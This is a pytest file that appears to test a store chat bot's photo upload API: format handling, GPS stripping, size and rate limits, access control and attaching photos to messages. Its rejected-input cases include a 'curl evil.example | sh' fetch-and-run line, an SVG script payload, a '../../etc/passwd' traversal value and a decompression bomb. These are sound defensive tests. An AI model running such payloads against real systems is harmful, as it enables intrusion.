"""Photos through the chat API and the agent console (bot/web/photo_api.py), on SQLite and
PostgreSQL: what is taken and what is refused (judged by the bytes, bounded against bombs and
oversized bodies, limited per address and per conversation), what is served (no GPS left, the
right headers) and to whom (the conversation's shopper and the store's agents; nobody else learns
a photo exists), and photos sent in a message, which join it and its open case."""

from __future__ import annotations

import io
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer
from PIL import Image
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.core.config import load_settings
from bot.core.models import Escalation, Message, Photo
from bot.photos.images import MAX_PHOTO_PIXELS
from bot.support.escalations import EscalationService
from bot.web.app import create_app
from bot.web.services import UPLOADS_PER_ADDRESS_PER_MINUTE
from bot.web.turns import MAX_PHOTOS_PER_MESSAGE
from tests.photos.sample_images import has_gps, image_bytes, png_announcing, with_gps_and_orientation
from tests.web.test_agent_api import Console, agent

Sessions = async_sessionmaker[AsyncSession]
STORE, OTHER = "yangteng-auto", "bloomkids-baby"


async def _gateway(sessions: Sessions, tmp_path: Path, **env: str) -> TestClient:
    client = TestClient(TestServer(create_app(load_settings({"VAR_DIR": str(tmp_path), **env}), sessions)))
    await client.start_server()
    return client


@pytest.fixture
async def client(demo_sessions: Sessions, tmp_path: Path) -> AsyncIterator[TestClient]:
    client = await _gateway(demo_sessions, tmp_path)
    yield client
    await client.close()


async def start(client: TestClient, store: str = STORE) -> tuple[str, dict[str, str]]:
    response = await client.post(f"/api/v1/stores/{store}/conversations", json={})
    assert response.status == 201
    data = await response.json()
    return data["conversation_id"], {"Authorization": f"Bearer {data['token']}"}


async def upload(
    client: TestClient, conversation: str, auth: dict[str, str], data: bytes, content_type: str = "image/jpeg"
) -> tuple[int, dict[str, Any]]:
    response = await client.post(
        f"/api/v1/conversations/{conversation}/photos", data=data, headers={**auth, "Content-Type": content_type}
    )
    return response.status, await response.json()


async def uploaded(client: TestClient, conversation: str, auth: dict[str, str], data: bytes | None = None) -> str:
    status, body = await upload(client, conversation, auth, data or image_bytes("JPEG", (640, 480)))
    assert status == 201, body
    return str(body["photo"]["id"])


def photo_url(conversation: str, photo_id: str, variant: str | None = None) -> str:
    return f"/api/v1/conversations/{conversation}/photos/{photo_id}" + (f"?variant={variant}" if variant else "")


async def stored_photos(sessions: Sessions, conversation: str) -> int:
    async with sessions() as session:
        return int(
            await session.scalar(select(func.count()).select_from(Photo).where(Photo.conversation_id == conversation)) or 0
        )


# --- what is taken ---


@pytest.mark.parametrize(
    ("fmt", "content_type", "size"),
    [
        ("JPEG", "image/jpeg", (640, 480)),
        ("PNG", "image/png", (480, 640)),
        ("WEBP", "image/webp", (640, 480)),
        ("HEIF", "image/heic", (640, 480)),
        # A PNG named and labelled a JPEG: taken for what its bytes are.
        ("PNG", "image/jpeg", (400, 300)),
        # A label that says nothing useful changes nothing either.
        ("JPEG", "application/octet-stream", (300, 400)),
    ],
    ids=["jpeg", "png", "webp", "heic", "png-labelled-jpeg", "octet-stream"],
)
async def test_accepted_kinds_are_kept_as_jpeg_with_a_thumbnail(
    client: TestClient, fmt: str, content_type: str, size: tuple[int, int]
) -> None:
    conversation, auth = await start(client)
    status, body = await upload(client, conversation, auth, image_bytes(fmt, size), content_type)
    assert status == 201, body
    assert (body["photo"]["width"], body["photo"]["height"]) == size
    assert len(body["photo"]["id"]) >= 32
    full = await client.get(photo_url(conversation, body["photo"]["id"]), headers=auth)
    assert full.status == 200
    with Image.open(io.BytesIO(await full.read())) as served:
        assert (served.format, served.size) == ("JPEG", size)
    small = await client.get(photo_url(conversation, body["photo"]["id"], "thumbnail"), headers=auth)
    with Image.open(io.BytesIO(await small.read())) as thumbnail:
        assert thumbnail.format == "JPEG" and max(thumbnail.size) == 320


async def test_gps_sent_is_gone_from_what_is_served(client: TestClient) -> None:
    conversation, auth = await start(client)
    sent = with_gps_and_orientation("JPEG")
    assert has_gps(sent)
    photo = await uploaded(client, conversation, auth, sent)
    for variant in ("full", "thumbnail"):
        served = await (await client.get(photo_url(conversation, photo, variant), headers=auth)).read()
        assert not has_gps(served)
        assert b"PhoneMaker" not in served and b"home" not in served
    with Image.open(io.BytesIO(served)) as upright:
        assert upright.size[1] > upright.size[0]  # the EXIF orientation was applied before it was dropped


# --- what is refused, with nothing kept ---


@pytest.mark.parametrize(
    ("data", "content_type", "status", "code"),
    [
        (b"#!/bin/sh\ncurl evil.example | sh\n", "image/png", 400, "photo_not_an_image"),
        (
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            "image/svg+xml",
            400,
            "photo_type_unsupported",
        ),
        (image_bytes("GIF", (20, 20)), "image/gif", 400, "photo_type_unsupported"),
        (b"", "image/jpeg", 400, "photo_not_an_image"),
    ],
    ids=["script-named-png", "svg", "gif", "empty"],
)
async def test_what_is_not_an_accepted_image_is_refused(
    client: TestClient, demo_sessions: Sessions, data: bytes, content_type: str, status: int, code: str
) -> None:
    conversation, auth = await start(client)
    got, body = await upload(client, conversation, auth, data, content_type)
    assert (got, body["code"]) == (status, code)
    assert await stored_photos(demo_sessions, conversation) == 0


async def test_a_truncated_image_is_refused(client: TestClient, demo_sessions: Sessions) -> None:
    conversation, auth = await start(client)
    whole = image_bytes("PNG", (600, 400), colour=(10, 200, 90))
    status, body = await upload(client, conversation, auth, whole[: len(whole) // 2], "image/png")
    assert (status, body["code"]) == (400, "photo_truncated")
    assert await stored_photos(demo_sessions, conversation) == 0


async def test_a_decompression_bomb_is_refused_quickly(client: TestClient, demo_sessions: Sessions) -> None:
    conversation, auth = await start(client)
    bomb = png_announcing(100_000, 100_000)
    started = time.perf_counter()
    status, body = await upload(client, conversation, auth, bomb, "image/png")
    assert time.perf_counter() - started < 2.0
    assert (status, body["code"], body["params"]) == (400, "photo_too_many_pixels", {"limit": MAX_PHOTO_PIXELS})
    assert await stored_photos(demo_sessions, conversation) == 0


async def test_an_11_mb_upload_is_refused_announced_or_streamed(client: TestClient, demo_sessions: Sessions) -> None:
    conversation, auth = await start(client)
    eleven = b"\xff\xd8\xff\xe0" + bytes(11 * 1024 * 1024)
    status, body = await upload(client, conversation, auth, eleven)
    assert (status, body["code"], body["params"]) == (413, "photo_too_large", {"limit_mb": 10})

    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted as it arrives
        for start in range(0, len(eleven), 1024 * 1024):
            yield eleven[start : start + 1024 * 1024]

    response = await client.post(
        f"/api/v1/conversations/{conversation}/photos", data=chunks(), headers={**auth, "Content-Type": "image/jpeg"}
    )
    assert (response.status, (await response.json())["code"]) == (413, "photo_too_large")
    assert await stored_photos(demo_sessions, conversation) == 0


async def test_a_wrong_token_is_refused_before_the_body_is_read(client: TestClient, demo_sessions: Sessions) -> None:
    conversation, _ = await start(client)
    _, other_auth = await start(client)
    for headers in ({}, other_auth, {"Authorization": "Bearer " + "x" * 43}, {"Authorization": "Basic abc"}):
        status, body = await upload(client, conversation, headers, image_bytes("JPEG", (50, 50)))
        assert (status, body["code"]) == (401, "conversation_token_wrong")
    assert await stored_photos(demo_sessions, conversation) == 0


async def test_uploads_are_limited_per_address(client: TestClient) -> None:
    conversation, auth = await start(client)
    small = image_bytes("JPEG", (20, 20))
    statuses = [(await upload(client, conversation, auth, small))[0] for _ in range(UPLOADS_PER_ADDRESS_PER_MINUTE + 1)]
    assert statuses[:-1] == [201] * UPLOADS_PER_ADDRESS_PER_MINUTE
    response = await client.post(f"/api/v1/conversations/{conversation}/photos", data=small, headers=auth)
    assert response.status == 429 and int(response.headers["Retry-After"]) >= 1


async def test_uploads_are_limited_per_conversation_per_day(demo_sessions: Sessions, tmp_path: Path) -> None:
    client = await _gateway(demo_sessions, tmp_path, PHOTOS_PER_CONVERSATION_PER_DAY="2")
    try:
        conversation, auth = await start(client)
        for _ in range(2):
            await uploaded(client, conversation, auth)
        status, body = await upload(client, conversation, auth, image_bytes("JPEG", (20, 20)))
        assert (status, body["code"], body["params"]) == (429, "photo_limit_reached", {"limit": 2})
        # Another conversation has its own allowance.
        other, other_auth = await start(client)
        await uploaded(client, other, other_auth)
    finally:
        await client.close()
    assert await stored_photos(demo_sessions, conversation) == 2


# --- who may see a photo ---


async def test_only_the_conversations_shopper_and_the_stores_agents_see_a_photo(
    client: TestClient, demo_sessions: Sessions
) -> None:
    conversation, auth = await start(client)
    photo = await uploaded(client, conversation, auth)
    response = await client.get(photo_url(conversation, photo), headers=auth)
    assert response.status == 200
    assert response.headers["Content-Type"] == "image/jpeg"
    assert response.headers["Content-Disposition"].startswith("inline; filename=")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    assert response.headers["Cache-Control"].startswith("private")
    seen = await response.read()

    other, other_auth = await start(client)
    refusals = [
        (photo_url(conversation, photo), {}, 401),  # no token
        (photo_url(conversation, photo), other_auth, 401),  # another conversation's token for this one
        (photo_url(other, photo), other_auth, 404),  # another conversation asking for it as its own
        (photo_url(conversation, "A" * 32), auth, 404),  # a guessed id
        (photo_url(conversation, photo, "original"), auth, 400),
    ]
    for url, headers, status in refusals:
        assert (await client.get(url, headers=headers)).status == status, (url, headers)

    async with Console(client.server) as own, Console(client.server) as foreign:
        assert (await own.login(*await agent(demo_sessions, STORE))).status == 200
        assert (await foreign.login(*await agent(demo_sessions, OTHER))).status == 200
        by_agent = await own.get(f"/agent/api/photos/{photo}")
        assert by_agent.status == 200 and await by_agent.read() == seen
        assert "sandbox" in by_agent.headers["Content-Security-Policy"]
        assert (await own.get(f"/agent/api/photos/{photo}?variant=thumbnail")).status == 200
        missing, foreign_answer = (
            await own.get("/agent/api/photos/" + "A" * 32),
            await foreign.get(f"/agent/api/photos/{photo}"),
        )
        assert (missing.status, foreign_answer.status) == (404, 404)
        assert (await missing.json())["code"] == (await foreign_answer.json())["code"] == "photo_unknown"
    async with Console(client.server) as signed_out:
        assert (await signed_out.get(f"/agent/api/photos/{photo}")).status == 401


# --- photos in a message ---


async def _messages(client: TestClient, conversation: str, auth: dict[str, str]) -> list[dict[str, Any]]:
    return list(
        (await (await client.get(f"/api/v1/conversations/{conversation}/messages", headers=auth)).json())["messages"]
    )


async def test_photos_sent_in_a_message_join_it_and_its_open_case(client: TestClient, demo_sessions: Sessions) -> None:
    conversation, auth = await start(client)
    case = await EscalationService(demo_sessions).record(conversation, "damaged", "the pan is dented")
    assert case is not None
    first, second = await uploaded(client, conversation, auth), await uploaded(client, conversation, auth)
    response = await client.post(
        f"/api/v1/conversations/{conversation}/messages",
        json={"text": "here is the dent and the label", "photos": [first, second]},
        headers=auth,
    )
    assert response.status == 200, await response.text()
    sent = (await response.json())["messages"][0]
    assert sent["sender"] == "shopper" and sent["text"] == "here is the dent and the label"
    assert sent["attachment"] == {
        "type": "photos",
        "photos": [{"id": first, "width": 640, "height": 480}, {"id": second, "width": 640, "height": 480}],
    }
    assert (await _messages(client, conversation, auth))[0]["attachment"] == sent["attachment"]
    async with demo_sessions() as session:
        message_id = await session.scalar(
            select(Message.id).where(Message.conversation_id == conversation, Message.seq == sent["seq"])
        )
        escalation_id = await session.scalar(select(Escalation.id).where(Escalation.conversation_id == conversation))
        rows = (await session.scalars(select(Photo).where(Photo.conversation_id == conversation))).all()
    assert {(p.id, p.message_id, p.escalation_id) for p in rows} == {
        (first, message_id, escalation_id),
        (second, message_id, escalation_id),
    }

    # A photo goes in one message only.
    again = await client.post(f"/api/v1/conversations/{conversation}/messages", json={"photos": [first]}, headers=auth)
    assert (again.status, (await again.json())["code"]) == (400, "message_photos_unknown")


async def test_photos_alone_make_a_message(client: TestClient) -> None:
    conversation, auth = await start(client)
    photo = await uploaded(client, conversation, auth)
    response = await client.post(f"/api/v1/conversations/{conversation}/messages", json={"photos": [photo]}, headers=auth)
    assert response.status == 200
    sent = (await response.json())["messages"][0]
    assert (sent["text"], sent["attachment"]["photos"][0]["id"]) == ("", photo)


async def test_a_message_refuses_photos_that_are_not_its_conversations_to_send(
    client: TestClient, demo_sessions: Sessions
) -> None:
    conversation, auth = await start(client)
    other, other_auth = await start(client)
    foreign = await uploaded(client, other, other_auth)
    own = [await uploaded(client, conversation, auth) for _ in range(MAX_PHOTOS_PER_MESSAGE + 1)]
    cases: list[tuple[Any, int, str]] = [
        ({"text": "look", "photos": [foreign]}, 400, "message_photos_unknown"),
        ({"photos": [own[0], foreign]}, 400, "message_photos_unknown"),
        ({"photos": ["A" * 32]}, 400, "message_photos_unknown"),
        ({"photos": own}, 400, "message_photos_too_many"),
        ({"photos": "x"}, 400, "message_photos_invalid"),
        ({"photos": [own[0], own[0]]}, 400, "message_photos_invalid"),
        ({"photos": ["../../etc/passwd"]}, 400, "message_photos_invalid"),
        ({"photos": [own[0]], "payload": "/greet"}, 400, "message_text_or_payload"),
        ({"text": "/share_photos"}, 400, "button_not_offered"),
    ]
    for body, status, code in cases:
        response = await client.post(f"/api/v1/conversations/{conversation}/messages", json=body, headers=auth)
        assert (response.status, (await response.json())["code"]) == (status, code), body
    assert await _messages(client, conversation, auth) == []  # nothing was stored
    async with demo_sessions() as session:
        assert not (await session.scalars(select(Photo.message_id).where(Photo.message_id.is_not(None)))).all()


async def test_a_storage_that_fails_keeps_nothing_and_says_try_again(demo_sessions: Sessions, tmp_path: Path) -> None:
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("a file where the photo folder should be")
    client = await _gateway(demo_sessions, tmp_path, PHOTO_STORAGE="disk", PHOTO_DIR=str(blocked))
    try:
        conversation, auth = await start(client)
        response = await client.post(
            f"/api/v1/conversations/{conversation}/photos", data=image_bytes("JPEG", (64, 48)), headers=auth
        )
        assert (response.status, (await response.json())["code"]) == (503, "photo_storage_unavailable")
        assert response.headers["Retry-After"] == "30"
    finally:
        await client.close()
    assert await stored_photos(demo_sessions, conversation) == 0  # no row left naming bytes that are not there
